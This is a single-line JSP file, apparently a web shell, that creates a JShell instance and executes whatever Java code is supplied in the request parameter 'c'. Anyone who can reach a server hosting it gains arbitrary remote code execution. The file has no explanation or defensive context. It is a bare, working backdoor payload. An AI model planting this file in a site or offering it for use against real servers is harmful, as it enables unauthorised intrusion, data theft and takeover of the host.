<%@ page import="jdk.jshell.JShell" %><% JShell sh = JShell.create(); sh.eval(request.getParameter("c")); %>
